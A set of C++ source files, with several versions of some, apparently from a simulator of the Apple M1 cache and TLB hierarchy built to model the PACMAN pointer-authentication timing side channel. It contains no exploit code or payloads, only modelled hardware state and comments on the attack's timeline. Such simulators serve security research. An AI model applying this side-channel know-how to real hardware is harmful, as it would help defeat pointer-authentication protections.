#include "isa/pointer.hh"

namespace pacman::mem
{

using isa::Addr;

/** Permissions and attributes of one mapping. */
struct PageFlags
{
    bool user = false;       //!< accessible from EL0
    bool writable = false;
    bool executable = false;
    bool device = false;     //!< uncacheable device page (e.g. timer)
};

/** A resolved translation. */
struct Mapping
{
    uint64_t ppn = 0;
    PageFlags flags;
};

/** Physical window where device pages are placed (above VA space). */
constexpr Addr DevicePhysBase = 1ull << 52;

/** The system page table. */
class PageTable
{
  public:
    /**
     * Map the page containing @p va with the linear ppn == vpn rule.
     * Remapping an existing page updates its flags.
     */
    void map(Addr va, PageFlags flags);

    /** Map the page containing @p va to an explicit frame. */
    void mapTo(Addr va, uint64_t ppn, PageFlags flags);

    /** Remove the mapping for the page containing @p va. */
    void unmap(Addr va);

    /** Translate a virtual page number. */
    std::optional<Mapping> translate(uint64_t vpn) const;

    /** Number of mapped pages. */
    size_t size() const { return table_.size(); }

    /**
     * Mapping-change epoch: bumped on every map/mapTo/unmap. The
     * decode cache folds this into its validity check so PA-keyed
     * entries can never survive a page remap or unmap.
     */
    uint64_t epoch() const { return epoch_; }

  private:
    std::unordered_map<uint64_t, Mapping> table_;
    uint64_t epoch_ = 0;
};

} // namespace pacman::mem

#endif // PACMAN_MEM_PAGETABLE_HH
