/**
 * @file
 * Flat page table for the single modelled address space.
 *
 * The platform uses a macOS-like linear physical map: a page's
 * physical frame equals its virtual page number (the 48-bit VA space
 * is disjoint between user [bit 47 = 0] and kernel [bit 47 = 1], so
 * frames never collide). Device pages live in a reserved physical
 * window above the 48-bit range.
 *
 * The timing cost of a miss (a 4-level table walk) is modelled in the
 * hierarchy's latency configuration rather than via walker state.
 */

#ifndef PACMAN_MEM_PAGETABLE_HH
#define PACMAN_MEM_PAGETABLE_HH

#include <cstdint>
#include <optional>
#include <unordered_map>

#include "isa/pointer.hh"

namespace pacman::mem
{

using isa::Addr;

/** Permissions and attributes of one mapping. */
struct PageFlags
{
    bool user = false;       //!< accessible from EL0
    bool writable = false;
    bool executable = false;
    bool device = false;     //!< uncacheable device page (e.g. timer)
};

/** A resolved translation. */
struct Mapping
{
    uint64_t ppn = 0;
    PageFlags flags;
};

/** Physical window where device pages are placed (above VA space). */
constexpr Addr DevicePhysBase = 1ull << 52;

/** The system page table. */
class PageTable
{
  public:
    /**
     * Map the page containing @p va with the linear ppn == vpn rule.
     * Remapping an existing page updates its flags.
     */
    void map(Addr va, PageFlags flags);

    /** Map the page containing @p va to an explicit frame. */
    void mapTo(Addr va, uint64_t ppn, PageFlags flags);

    /** Remove the mapping for the page containing @p va. */
    void unmap(Addr va);

    /** Translate a virtual page number. */
    std::optional<Mapping> translate(uint64_t vpn) const;

    /** Number of mapped pages. */
    size_t size() const { return table_.size(); }

    /**
     * Mapping-change epoch: relabelled from a never-rewound counter
     * on every map/mapTo/unmap. The decode cache folds this into its
     * validity check so PA-keyed entries can never survive a page
     * remap or unmap.
     */
    uint64_t epoch() const { return epoch_; }

    /**
     * Complete table state. The epoch label is the copy-on-write
     * check (same scheme as PhysMem write generations): a live epoch
     * still equal to the stored one means no mapping has changed
     * since the capture, so the (hundreds-of-entries) table copy is
     * skipped entirely. Campaign work items never remap, making the
     * skip the common case on the restore-per-item fast path. When a
     * copy IS needed, the restored table gets a fresh label (mirrored
     * into the snapshot's mutable field) — labels are never reused,
     * so the equality check stays sound across any snapshot/restore
     * interleaving.
     */
    struct Snapshot
    {
        std::unordered_map<uint64_t, Mapping> table;
        mutable uint64_t epoch = 0;
    };

    Snapshot takeSnapshot() const { return {table_, epoch_}; }

    void restore(const Snapshot &snap)
    {
        if (epoch_ == snap.epoch)
            return; // no mapping mutated since capture: table identical
        table_ = snap.table;
        epoch_ = snap.epoch = ++epochCounter_;
    }

  private:
    std::unordered_map<uint64_t, Mapping> table_;
    uint64_t epoch_ = 0;

    /** Source of epoch labels; never rewound (see Snapshot docs). */
    uint64_t epochCounter_ = 0;
};

} // namespace pacman::mem

#endif // PACMAN_MEM_PAGETABLE_HH
