#include "tlb.hh"

#include "base/bitfield.hh"
#include "base/logging.hh"

namespace pacman::mem
{

Tlb::Tlb(const SetAssocConfig &cfg, ReplPolicy policy, Random *rng)
    : cfg_(cfg), policy_(policy), rng_(rng),
      ways_(size_t(cfg.sets) * cfg.ways), setGen_(cfg.sets, 0)
{
    if (!isPowerOf2(cfg.sets))
        fatal("tlb %s: set count %u not a power of two",
              cfg.name.c_str(), cfg.sets);
    if (policy_ == ReplPolicy::Random && rng_ == nullptr)
        fatal("tlb %s: random replacement requires an RNG",
              cfg.name.c_str());
}

uint64_t
Tlb::setIndex(uint64_t vpn) const
{
    return vpn & (cfg_.sets - 1);
}

Tlb::Way *
Tlb::find(uint64_t vpn, Asid asid)
{
    Way *base = &ways_[setIndex(vpn) * cfg_.ways];
    for (unsigned w = 0; w < cfg_.ways; ++w) {
        if (base[w].valid && base[w].entry.vpn == vpn &&
            base[w].entry.asid == asid) {
            return &base[w];
        }
    }
    return nullptr;
}

const Tlb::Way *
Tlb::find(uint64_t vpn, Asid asid) const
{
    return const_cast<Tlb *>(this)->find(vpn, asid);
}

Tlb::Way &
Tlb::victimIn(uint64_t set)
{
    Way *base = &ways_[set * cfg_.ways];
    for (unsigned w = 0; w < cfg_.ways; ++w) {
        if (!base[w].valid)
            return base[w];
    }
    if (policy_ == ReplPolicy::Random)
        return base[rng_->next(cfg_.ways)];
    Way *victim = &base[0];
    for (unsigned w = 1; w < cfg_.ways; ++w) {
        if (base[w].lruStamp < victim->lruStamp)
            victim = &base[w];
    }
    return *victim;
}

std::optional<TlbEntry>
Tlb::lookup(uint64_t vpn, Asid asid)
{
    ++tick_;
    if (Way *way = find(vpn, asid)) {
        journalTouch(way);
        way->lruStamp = tick_;
        ++hits_;
        return way->entry;
    }
    ++misses_;
    return std::nullopt;
}

bool
Tlb::contains(uint64_t vpn, Asid asid) const
{
    return find(vpn, asid) != nullptr;
}

std::optional<TlbEntry>
Tlb::insert(const TlbEntry &entry)
{
    ++tick_;
    // Refresh in place if already present. Still a structural change:
    // the refreshed entry may map a different frame or permissions
    // (remap + re-walk), so the set label moves.
    if (Way *way = find(entry.vpn, entry.asid)) {
        journalTouch(way);
        bumpSet(setIndex(entry.vpn));
        way->entry = entry;
        way->lruStamp = tick_;
        return std::nullopt;
    }
    Way &victim = victimIn(setIndex(entry.vpn));
    journalTouch(&victim);
    bumpSet(setIndex(entry.vpn));
    std::optional<TlbEntry> evicted;
    if (victim.valid)
        evicted = victim.entry;
    victim.valid = true;
    victim.entry = entry;
    victim.lruStamp = tick_;
    return evicted;
}

std::optional<TlbEntry>
Tlb::remove(uint64_t vpn, Asid asid)
{
    if (Way *way = find(vpn, asid)) {
        journalTouch(way);
        bumpSet(setIndex(vpn));
        way->valid = false;
        return way->entry;
    }
    return std::nullopt;
}

void
Tlb::flushAll()
{
    journalBulk();
    for (Way &way : ways_)
        way.valid = false;
    for (uint64_t set = 0; set < cfg_.sets; ++set)
        bumpSet(set);
}

unsigned
Tlb::flushAsid(Asid asid)
{
    journalBulk();
    unsigned n = 0;
    for (size_t idx = 0; idx < ways_.size(); ++idx) {
        Way &way = ways_[idx];
        if (way.valid && way.entry.asid == asid) {
            way.valid = false;
            bumpSet(idx / cfg_.ways);
            ++n;
        }
    }
    return n;
}

void
Tlb::resetStats()
{
    journalBulk();
    hits_ = misses_ = 0;
    uint64_t min_stamp = tick_;
    for (const Way &way : ways_) {
        if (way.valid && way.lruStamp < min_stamp)
            min_stamp = way.lruStamp;
    }
    tick_ -= min_stamp;
    for (Way &way : ways_) {
        if (way.valid)
            way.lruStamp -= min_stamp;
    }
}

unsigned
Tlb::flushSetAsid(uint64_t set, Asid asid)
{
    unsigned n = 0;
    for (unsigned w = 0; w < cfg_.ways; ++w) {
        Way &way = ways_[set * cfg_.ways + w];
        if (way.valid && way.entry.asid == asid) {
            journalTouch(&way);
            bumpSet(set);
            way.valid = false;
            ++n;
        }
    }
    return n;
}

Tlb::Snapshot
Tlb::takeSnapshot() const
{
    ++journalEpoch_;
    journalOff_ = false;
    journal_.clear();
    journaled_.assign(ways_.size(), 0);
    return {ways_, setGen_, tick_, hits_, misses_, journalEpoch_};
}

void
Tlb::restore(const Snapshot &snap)
{
    tick_ = snap.tick;
    hits_ = snap.hits;
    misses_ = snap.misses;
    if (snap.journalEpoch == journalEpoch_ && !journalOff_) {
        // The journal lists exactly the ways dirtied since this
        // snapshot was captured; everything else is already identical.
        // Every structural mutation journals a way in the set it
        // relabels, so rewinding the journaled ways' sets covers
        // every moved generation label.
        for (const uint32_t idx : journal_) {
            const uint64_t set = idx / cfg_.ways;
            ways_[idx] = snap.ways[idx];
            setGen_[set] = snap.setGen[set];
            journaled_[idx] = 0;
        }
        journal_.clear();
        return;
    }
    ways_ = snap.ways;
    setGen_ = snap.setGen;
    if (snap.journalEpoch == journalEpoch_) {
        // Journal overflowed; the full copy re-synced us with this
        // (still armed) snapshot: re-arm.
        journal_.clear();
        journaled_.assign(ways_.size(), 0);
        journalOff_ = false;
    } else {
        journalOff_ = true;
    }
}

} // namespace pacman::mem
