/**
 * @file
 * Set-associative cache tag store.
 *
 * Only presence is modelled (data lives in PhysMem); that is all the
 * timing channel needs. Lines are physically indexed and tagged.
 */

#ifndef PACMAN_MEM_CACHE_HH
#define PACMAN_MEM_CACHE_HH

#include <cstdint>
#include <vector>

#include "base/random.hh"
#include "mem/config.hh"
#include "mem/physmem.hh"

namespace pacman::mem
{

/** A set-associative tag array with LRU or random replacement. */
class Cache
{
  public:
    Cache(const SetAssocConfig &cfg, ReplPolicy policy, Random *rng);

    /**
     * Access the line containing @p pa: on a hit, refresh LRU state;
     * on a miss, allocate (evicting the victim).
     *
     * @return true on hit.
     */
    bool access(Addr pa);

    struct Line;

    /**
     * access() with the touched line returned: the hit line, or the
     * freshly (re)allocated victim on a miss. State effects are
     * identical to access() — this exists so the superblock executor
     * can hold the line and replay later same-line fetches through
     * rehit() without repeating the tag scan.
     */
    Line *accessRef(Addr pa, bool *hit);

    /**
     * Replay a hit on @p line with exactly the bookkeeping sequence of
     * access()'s hit path: tick, journal touch, LRU stamp, hit count.
     * @p line must be the live line a fresh lookup of the same address
     * would return (the superblock executor guarantees this by holding
     * the pointer only across a straight-line run with no intervening
     * invalidation).
     */
    void rehit(Line *line)
    {
        ++tick_;
        journalTouch(line);
        line->lruStamp = tick_;
        ++hits_;
    }

    /** Live line containing @p pa, or nullptr. No state change. */
    Line *lineFor(Addr pa) { return findLine(pa); }

    /** Line at raw array index @p idx (timing-trace replay: the trace
     *  recorded the index of the line it hit; the set's generation
     *  label guarantees the index still names the same line). */
    Line *lineAt(size_t idx) { return &lines_[idx]; }

    /** Raw array index of a live @p line (timing-trace recording). */
    size_t indexOf(const Line *line) const
    {
        return size_t(line - lines_.data());
    }

    /**
     * Generation label of @p set: a value drawn from a never-rewound
     * per-structure counter on every *structural* mutation of the set
     * — a miss fill/eviction, an invalidation, or a flush. Pure LRU
     * refreshes on hits deliberately do NOT move it: hit replay is
     * order-insensitive (no victim choice happens), so the
     * timing-trace layer only needs to know the set's *membership* is
     * unchanged. Like PhysMem's page write generations, labels are
     * never reused and a snapshot restore rewinds a set's label
     * together with its lines, so a label match always implies the
     * identical set contents — across restores included.
     */
    uint64_t setGen(uint64_t set) const { return setGen_[set]; }

    /** Probe without changing any state. */
    bool contains(Addr pa) const;

    /** Invalidate the line containing @p pa if present. */
    void invalidate(Addr pa);

    /** Invalidate everything. */
    void flushAll();

    /** Set index the line containing @p pa maps to. */
    uint64_t setIndex(Addr pa) const;

    const SetAssocConfig &config() const { return cfg_; }
    uint64_t hits() const { return hits_; }
    uint64_t misses() const { return misses_; }

    /** Hit fraction since construction / the last resetStats(). */
    double hitRate() const
    {
        const uint64_t total = hits_ + misses_;
        return total ? double(hits_) / double(total) : 0.0;
    }

    /**
     * Zero the hit/miss counters and rebase the LRU clock so benches
     * can exclude warm-up. Rebasing subtracts a common offset from
     * tick_ and every live stamp; LRU ordering is purely relative, so
     * replacement decisions are unchanged.
     */
    void resetStats();

    /** One tag-array way (exposed so Snapshot can hold the array). */
    struct Line
    {
        bool valid = false;
        uint64_t tag = 0;
        uint64_t lruStamp = 0; //!< larger = more recently used
    };

    /** Complete mutable state: tag array, LRU clock, counters. */
    struct Snapshot
    {
        std::vector<Line> lines;
        std::vector<uint64_t> setGen; //!< per-set generation labels
        uint64_t tick = 0;
        uint64_t hits = 0;
        uint64_t misses = 0;

        /** Which arming of the dirty-line journal this capture
         *  belongs to (restore fast-path validity check). */
        uint64_t journalEpoch = 0;
    };

    /**
     * Capture the complete tag-array state. Also (re)arms the
     * dirty-line journal — bookkeeping, not observable state, hence
     * const — so a later restore of THIS snapshot can copy back just
     * the lines touched since the capture instead of the whole array
     * (the large L2/SLC arrays make the full copy the dominant cost
     * of a replica restore). Restoring any other snapshot falls back
     * to the full copy.
     */
    Snapshot takeSnapshot() const;

    void restore(const Snapshot &snap);

  private:
    uint64_t lineNumber(Addr pa) const;
    uint64_t tagOf(uint64_t line_num) const;
    Line *findLine(Addr pa);
    const Line *findLine(Addr pa) const;
    Line &victimIn(uint64_t set);

    /** Record @p line as dirtied since the last takeSnapshot(). */
    void journalTouch(const Line *line)
    {
        if (journalOff_)
            return;
        const size_t idx = size_t(line - lines_.data());
        if (journaled_[idx])
            return;
        if (journal_.size() >= lines_.size() / 4) {
            journalOff_ = true; // cheaper to copy the array wholesale
            return;
        }
        journaled_[idx] = 1;
        journal_.push_back(uint32_t(idx));
    }

    /** Whole-array mutation (flushAll/resetStats): give up on the
     *  journal until the next capture re-arms it. */
    void journalBulk() { journalOff_ = true; }

    /** Stamp a fresh generation label on @p set (structural change). */
    void bumpSet(uint64_t set) { setGen_[set] = ++genCounter_; }

    SetAssocConfig cfg_;
    ReplPolicy policy_;
    Random *rng_;
    // lineBytes and sets are enforced powers of two, so the address
    // decomposition in lineNumber()/setIndex()/tagOf() reduces to
    // shifts and masks (hot enough that the divisions showed up at
    // the top of profiles).
    unsigned lineShift_ = 0;
    unsigned setShift_ = 0;
    uint64_t setMask_ = 0;
    std::vector<Line> lines_;  //!< sets * ways, set-major
    uint64_t tick_ = 0;
    uint64_t hits_ = 0;
    uint64_t misses_ = 0;

    // Per-set generation labels (see setGen()). The counter is the
    // label source; like PhysMem's write-generation counter it is
    // never captured or rewound, so labels stay unique across
    // restores and a stale timing trace can never re-validate.
    std::vector<uint64_t> setGen_;
    uint64_t genCounter_ = 0;

    // Dirty-line journal (see takeSnapshot). Mutable: arming from the
    // const capture path only redirects how restore copies bytes, it
    // never changes modelled behaviour. Disarmed until first capture.
    mutable bool journalOff_ = true;
    mutable uint64_t journalEpoch_ = 0;
    mutable std::vector<uint32_t> journal_;  //!< dirtied line indices
    mutable std::vector<uint8_t> journaled_; //!< per-line dedup flag
};

} // namespace pacman::mem

#endif // PACMAN_MEM_CACHE_HH
