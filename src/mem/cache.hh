/**
 * @file
 * Set-associative cache tag store.
 *
 * Only presence is modelled (data lives in PhysMem); that is all the
 * timing channel needs. Lines are physically indexed and tagged.
 */

#ifndef PACMAN_MEM_CACHE_HH
#define PACMAN_MEM_CACHE_HH

#include <cstdint>
#include <vector>

#include "base/random.hh"
#include "mem/config.hh"
#include "mem/physmem.hh"

namespace pacman::mem
{

/** A set-associative tag array with LRU or random replacement. */
class Cache
{
  public:
    Cache(const SetAssocConfig &cfg, ReplPolicy policy, Random *rng);

    /**
     * Access the line containing @p pa: on a hit, refresh LRU state;
     * on a miss, allocate (evicting the victim).
     *
     * @return true on hit.
     */
    bool access(Addr pa);

    /** Probe without changing any state. */
    bool contains(Addr pa) const;

    /** Invalidate the line containing @p pa if present. */
    void invalidate(Addr pa);

    /** Invalidate everything. */
    void flushAll();

    /** Set index the line containing @p pa maps to. */
    uint64_t setIndex(Addr pa) const;

    const SetAssocConfig &config() const { return cfg_; }
    uint64_t hits() const { return hits_; }
    uint64_t misses() const { return misses_; }

    /** Hit fraction since construction / the last resetStats(). */
    double hitRate() const
    {
        const uint64_t total = hits_ + misses_;
        return total ? double(hits_) / double(total) : 0.0;
    }

    /**
     * Zero the hit/miss counters and rebase the LRU clock so benches
     * can exclude warm-up. Rebasing subtracts a common offset from
     * tick_ and every live stamp; LRU ordering is purely relative, so
     * replacement decisions are unchanged.
     */
    void resetStats();

  private:
    struct Line
    {
        bool valid = false;
        uint64_t tag = 0;
        uint64_t lruStamp = 0; //!< larger = more recently used
    };

    uint64_t lineNumber(Addr pa) const;
    uint64_t tagOf(uint64_t line_num) const;
    Line *findLine(Addr pa);
    const Line *findLine(Addr pa) const;
    Line &victimIn(uint64_t set);

    SetAssocConfig cfg_;
    ReplPolicy policy_;
    Random *rng_;
    std::vector<Line> lines_;  //!< sets * ways, set-major
    uint64_t tick_ = 0;
    uint64_t hits_ = 0;
    uint64_t misses_ = 0;
};

} // namespace pacman::mem

#endif // PACMAN_MEM_CACHE_HH
