#include "hierarchy.hh"

#include "base/logging.hh"

namespace pacman::mem
{

MemoryHierarchy::MemoryHierarchy(const HierarchyConfig &cfg, Random *rng)
    : cfg_(cfg), rng_(rng), phys_(cfg.fastMem),
      l1i_(cfg.l1i, cfg.replPolicy, rng),
      l1d_(cfg.l1d, cfg.replPolicy, rng),
      l2_(cfg.l2, cfg.replPolicy, rng),
      slc_(cfg.slc, cfg.replPolicy, rng),
      itlbEl0_(cfg.itlb, cfg.replPolicy, rng),
      itlbEl1_(cfg.itlb, cfg.replPolicy, rng),
      dtlb_(cfg.dtlb, cfg.replPolicy, rng),
      l2tlb_(cfg.l2tlb, cfg.replPolicy, rng)
{
}

void
MemoryHierarchy::mapPage(Addr va, PageFlags flags)
{
    pt_.map(va, flags);
}

void
MemoryHierarchy::mapRange(Addr va, uint64_t bytes, PageFlags flags)
{
    const Addr start = isa::vaPart(va) & ~isa::PageMask;
    const Addr end = isa::vaPart(va) + bytes;
    for (Addr page = start; page < end; page += isa::PageSize)
        pt_.map(isa::withExt(page, isa::canonicalExt(va)), flags);
}

void
MemoryHierarchy::mapDevice(Addr va, Device *device)
{
    const uint64_t index = devices_.size();
    devices_.push_back(device);
    PageFlags flags;
    flags.user = true;
    flags.writable = true;
    flags.device = true;
    pt_.mapTo(va, (DevicePhysBase >> isa::PageShift) + index, flags);
}

Fault
MemoryHierarchy::checkPerms(AccessKind kind, const PageFlags &flags,
                            unsigned el) const
{
    if (el == 0 && !flags.user)
        return Fault::Permission;
    if (kind == AccessKind::Store && !flags.writable)
        return Fault::Permission;
    if (kind == AccessKind::Fetch && !flags.executable)
        return Fault::Permission;
    return Fault::None;
}

AccessResult
MemoryHierarchy::translateTimed(AccessKind kind, Addr va, unsigned el,
                                bool speculative, AccessTrace *trace)
{
    AccessResult res;

    // Non-canonical pointers (e.g. an aut-poisoned pointer) fail
    // before any structure is consulted: nothing is allocated, no
    // side effect is left. This is the "speculative exception" arm of
    // the PACMAN gadget timeline.
    if (!isa::isCanonical(va)) {
        res.fault = Fault::Translation;
        res.latency = 1;
        return res;
    }

    const uint64_t vpn = isa::pageNumber(isa::vaPart(va));
    const Asid asid = isa::isKernelVa(va) ? Asid::Kernel : Asid::User;
    const bool fill_ok = !(cfg_.delayOnMiss && speculative);

    // L1 TLB lookup: iTLB (per-EL) for fetches, shared dTLB for data.
    Tlb &l1 = kind == AccessKind::Fetch ? itlb(el) : dtlb_;
    if (auto entry = l1.lookup(vpn, asid)) {
        const Fault perm = checkPerms(kind, PageFlags{
            .user = asid == Asid::User,
            .writable = entry->writable,
            .executable = entry->executable,
            .device = false}, el);
        if (perm != Fault::None) {
            res.fault = perm;
            res.latency = 1;
            return res;
        }
        if (trace)
            trace->l1TlbHit = true;
        res.pa = (entry->ppn << isa::PageShift) |
                 isa::pageOffset(isa::vaPart(va));
        return res;
    }

    // Fetch misses probe the dTLB next: Section 7.3 finds the dTLB
    // acting as a non-inclusive backing store for the iTLBs. The
    // entry migrates back into the iTLB; the iTLB's victim spills
    // into the dTLB.
    if (kind == AccessKind::Fetch) {
        if (auto entry = dtlb_.remove(vpn, asid)) {
            res.latency += cfg_.lat.itlbSpillProbe;
            if (trace)
                trace->spillServed = true;
            if (fill_ok) {
                if (auto spilled = itlb(el).insert(*entry))
                    dtlb_.insert(*spilled);
            } else {
                dtlb_.insert(*entry); // put it back, no movement
            }
            const Fault perm = checkPerms(kind, PageFlags{
                .user = asid == Asid::User,
                .writable = entry->writable,
                .executable = entry->executable,
                .device = false}, el);
            if (perm != Fault::None) {
                res.fault = perm;
                return res;
            }
            res.pa = (entry->ppn << isa::PageShift) |
                     isa::pageOffset(isa::vaPart(va));
            return res;
        }
    }

    // L2 TLB.
    bool from_walk = false;
    std::optional<TlbEntry> entry = l2tlb_.lookup(vpn, asid);
    if (entry) {
        res.latency += cfg_.lat.l1TlbMissPenalty;
        if (trace)
            trace->l2TlbHit = true;
    } else {
        // Page-table walk.
        res.latency += cfg_.lat.walkPenalty;
        if (trace)
            trace->walked = true;
        const auto mapping = pt_.translate(vpn);
        if (!mapping) {
            res.fault = Fault::Translation;
            return res;
        }
        if (mapping->flags.device) {
            // Pinned translation: no TLB state, bypasses caches.
            const Fault perm = checkPerms(kind, mapping->flags, el);
            if (perm != Fault::None) {
                res.fault = perm;
                return res;
            }
            res.pa = (mapping->ppn << isa::PageShift) |
                     isa::pageOffset(isa::vaPart(va));
            res.isDevice = true;
            res.latency = cfg_.lat.device;
            return res;
        }
        entry = TlbEntry{vpn, asid, mapping->ppn,
                         mapping->flags.writable,
                         mapping->flags.executable};
        from_walk = true;
    }

    const Fault perm = checkPerms(kind, PageFlags{
        .user = asid == Asid::User,
        .writable = entry->writable,
        .executable = entry->executable,
        .device = false}, el);
    if (perm != Fault::None) {
        res.fault = perm;
        return res;
    }

    // Fill the TLBs; iTLB victims spill into the dTLB.
    if (fill_ok && from_walk)
        l2tlb_.insert(*entry);
    if (fill_ok) {
        if (kind == AccessKind::Fetch) {
            if (auto spilled = itlb(el).insert(*entry))
                dtlb_.insert(*spilled);
        } else {
            dtlb_.insert(*entry);
        }
    }

    res.pa = (entry->ppn << isa::PageShift) |
             isa::pageOffset(isa::vaPart(va));
    return res;
}

uint64_t
MemoryHierarchy::cacheAccess(AccessKind kind, Addr pa, bool speculative,
                             AccessTrace *trace)
{
    (void)speculative; // cache fills are never gated in this model
    Cache &l1 = kind == AccessKind::Fetch ? l1i_ : l1d_;
    if (l1.access(pa)) {
        if (trace)
            trace->l1CacheHit = true;
        return cfg_.lat.l1Hit;
    }
    if (l2_.access(pa)) {
        if (trace)
            trace->l2CacheHit = true;
        return cfg_.lat.l2Hit;
    }
    if (slc_.access(pa)) {
        if (trace)
            trace->slcHit = true;
        return cfg_.lat.slcHit;
    }
    return cfg_.lat.dram;
}

uint64_t
MemoryHierarchy::fetchLineAccess(Addr pa, Cache::Line **line)
{
    bool hit = false;
    *line = l1i_.accessRef(pa, &hit);
    if (hit)
        return cfg_.lat.l1Hit;
    if (l2_.access(pa))
        return cfg_.lat.l2Hit;
    if (slc_.access(pa))
        return cfg_.lat.slcHit;
    return cfg_.lat.dram;
}

AccessResult
MemoryHierarchy::access(AccessKind kind, Addr va, unsigned el,
                        bool speculative, AccessTrace *trace)
{
    AccessResult res = translateTimed(kind, va, el, speculative, trace);
    if (res.fault != Fault::None || res.isDevice)
        return res;
    res.latency += cacheAccess(kind, res.pa, speculative, trace);
    return res;
}

uint64_t
MemoryHierarchy::loadValue(const AccessResult &res, Addr va, unsigned size)
{
    PACMAN_ASSERT(res.fault == Fault::None, "loadValue after fault");
    if (res.isDevice) {
        const uint64_t index =
            (res.pa >> isa::PageShift) - (DevicePhysBase >> isa::PageShift);
        PACMAN_ASSERT(index < devices_.size(), "bad device index");
        return devices_[index]->read(isa::pageOffset(va), size);
    }
    return phys_.read(res.pa, size);
}

void
MemoryHierarchy::storeValue(const AccessResult &res, Addr va,
                            uint64_t value, unsigned size)
{
    PACMAN_ASSERT(res.fault == Fault::None, "storeValue after fault");
    if (res.isDevice) {
        const uint64_t index =
            (res.pa >> isa::PageShift) - (DevicePhysBase >> isa::PageShift);
        PACMAN_ASSERT(index < devices_.size(), "bad device index");
        devices_[index]->write(isa::pageOffset(va), value, size);
        return;
    }
    phys_.write(res.pa, value, size);
}

std::optional<Addr>
MemoryHierarchy::translateFunctional(Addr va) const
{
    if (!isa::isCanonical(va))
        return std::nullopt;
    const auto mapping = pt_.translate(isa::pageNumber(isa::vaPart(va)));
    if (!mapping)
        return std::nullopt;
    return (mapping->ppn << isa::PageShift) |
           isa::pageOffset(isa::vaPart(va));
}

uint64_t
MemoryHierarchy::readVirt(Addr va, unsigned size) const
{
    const auto pa = translateFunctional(va);
    if (!pa)
        fatal("readVirt: unmapped address 0x%llx", (unsigned long long)va);
    return phys_.read(*pa, size);
}

void
MemoryHierarchy::writeVirt(Addr va, uint64_t value, unsigned size)
{
    const auto pa = translateFunctional(va);
    if (!pa)
        fatal("writeVirt: unmapped address 0x%llx",
              (unsigned long long)va);
    phys_.write(*pa, value, size);
}

MemoryHierarchy::Snapshot
MemoryHierarchy::takeSnapshot() const
{
    Snapshot snap;
    snap.phys = phys_.takeSnapshot();
    snap.pt = pt_.takeSnapshot();
    snap.l1i = l1i_.takeSnapshot();
    snap.l1d = l1d_.takeSnapshot();
    snap.l2 = l2_.takeSnapshot();
    snap.slc = slc_.takeSnapshot();
    snap.itlbEl0 = itlbEl0_.takeSnapshot();
    snap.itlbEl1 = itlbEl1_.takeSnapshot();
    snap.dtlb = dtlb_.takeSnapshot();
    snap.l2tlb = l2tlb_.takeSnapshot();
    snap.flushEpoch = flushEpoch_;
    return snap;
}

PhysMem::RestoreStats
MemoryHierarchy::restore(const Snapshot &snap)
{
    const PhysMem::RestoreStats stats = phys_.restore(snap.phys);
    pt_.restore(snap.pt);
    l1i_.restore(snap.l1i);
    l1d_.restore(snap.l1d);
    l2_.restore(snap.l2);
    slc_.restore(snap.slc);
    itlbEl0_.restore(snap.itlbEl0);
    itlbEl1_.restore(snap.itlbEl1);
    dtlb_.restore(snap.dtlb);
    l2tlb_.restore(snap.l2tlb);
    flushEpoch_ = snap.flushEpoch;
    return stats;
}

void
MemoryHierarchy::flushAll()
{
    l1i_.flushAll();
    l1d_.flushAll();
    l2_.flushAll();
    slc_.flushAll();
    itlbEl0_.flushAll();
    itlbEl1_.flushAll();
    dtlb_.flushAll();
    l2tlb_.flushAll();
    ++flushEpoch_;
}

} // namespace pacman::mem
