#include "pagetable.hh"

namespace pacman::mem
{

void
PageTable::map(Addr va, PageFlags flags)
{
    mapTo(va, isa::pageNumber(isa::vaPart(va)), flags);
}

void
PageTable::mapTo(Addr va, uint64_t ppn, PageFlags flags)
{
    const uint64_t vpn = isa::pageNumber(isa::vaPart(va));
    table_[vpn] = Mapping{ppn, flags};
    epoch_ = ++epochCounter_;
}

void
PageTable::unmap(Addr va)
{
    table_.erase(isa::pageNumber(isa::vaPart(va)));
    epoch_ = ++epochCounter_;
}

std::optional<Mapping>
PageTable::translate(uint64_t vpn) const
{
    auto it = table_.find(vpn);
    if (it == table_.end())
        return std::nullopt;
    return it->second;
}

} // namespace pacman::mem
