#include "config.hh"

namespace pacman::mem
{

HierarchyConfig
m1PCoreConfig()
{
    HierarchyConfig cfg;
    cfg.coreType = "p-core";

    // Table 2, p-core caches. The L1D uses the *observed* effective
    // geometry (4 ways x 512 sets, footnote 5) while the architectural
    // registers continue to report 8 x 256.
    cfg.l1i = {"L1I", 6, 512, 64};
    cfg.l1d = {"L1D", 4, 512, 64};
    cfg.l2 = {"L2", 12, 8192, 128, /*hashedIndex=*/true};
    cfg.slc = {"SLC", 16, 8192, 128, /*hashedIndex=*/true};
    cfg.l1dArchWays = 8;
    cfg.l1dArchSets = 256;

    // Section 7: reverse-engineered TLB hierarchy (Figure 6).
    cfg.itlb = {"L1-iTLB", 4, 32, 1};
    cfg.dtlb = {"L1-dTLB", 12, 256, 1};
    cfg.l2tlb = {"L2-TLB", 23, 2048, 1};

    return cfg;
}

HierarchyConfig
m1ECoreConfig()
{
    HierarchyConfig cfg;
    cfg.coreType = "e-core";

    // Table 2, e-core caches.
    cfg.l1i = {"L1I", 8, 256, 64};
    cfg.l1d = {"L1D", 4, 256, 64}; // observed-associativity convention
    cfg.l2 = {"L2", 16, 2048, 128, /*hashedIndex=*/true};
    cfg.slc = {"SLC", 16, 8192, 128, /*hashedIndex=*/true};
    cfg.l1dArchWays = 8;
    cfg.l1dArchSets = 128;

    // The paper reverse engineers only the p-core TLBs; these are
    // plausible smaller structures so the e-core model is complete.
    cfg.itlb = {"L1-iTLB", 4, 16, 1};
    cfg.dtlb = {"L1-dTLB", 8, 128, 1};
    cfg.l2tlb = {"L2-TLB", 16, 1024, 1};

    return cfg;
}

} // namespace pacman::mem
