#include "config.hh"

namespace pacman::mem
{

HierarchyConfig
m1PCoreConfig()
{
    HierarchyConfig cfg;
    cfg.coreType = "p-core";

    // Table 2, p-core caches. The L1D uses the *observed* effective
    // geometry (4 ways x 512 sets, footnote 5) while the architectural
    // registers continue to report 8 x 256.
    cfg.l1i = {"L1I", 6, 512, 64};
    cfg.l1d = {"L1D", 4, 512, 64};
    cfg.l2 = {"L2", 12, 8192, 128, /*hashedIndex=*/true};
    cfg.slc = {"SLC", 16, 8192, 128, /*hashedIndex=*/true};
    cfg.l1dArchWays = 8;
    cfg.l1dArchSets = 256;

    // Section 7: reverse-engineered TLB hierarchy (Figure 6).
    cfg.itlb = {"L1-iTLB", 4, 32, 1};
    cfg.dtlb = {"L1-dTLB", 12, 256, 1};
    cfg.l2tlb = {"L2-TLB", 23, 2048, 1};

    return cfg;
}

HierarchyConfig
